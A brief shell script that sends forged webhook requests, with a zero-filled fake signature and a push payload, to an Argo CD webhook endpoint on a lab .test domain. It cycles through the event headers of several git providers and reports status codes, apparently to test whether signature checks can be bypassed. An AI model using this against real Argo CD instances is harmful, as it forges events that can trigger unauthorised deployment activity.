forged() {
  curl -sS --output /dev/null --write-out "$1: %{http_code}\n" --header "$1" \
    --header "X-Gogs-Signature: $(printf 0%.0s {1..64})" \
    --header 'Content-Type: application/json' --data '{"ref": "refs/heads/main",
      "before": "1", "after": "2", "repository": {"default_branch": "main",
      "html_url": "https://gitea.gitops.test/gitops/platform"}}' \
    https://argocd.gitops.test/api/webhook
}
forged 'X-Gogs-Event: push'
forged 'X-GitHub-Event: push'
forged 'X-GitHub-Event: package'
forged 'X-Gitlab-Event: Push Hook'
forged 'X-Event-Key: repo:refs_changed'
forged 'X-Hook-UUID: 1'
forged 'X-Vss-ActivityId: 1'
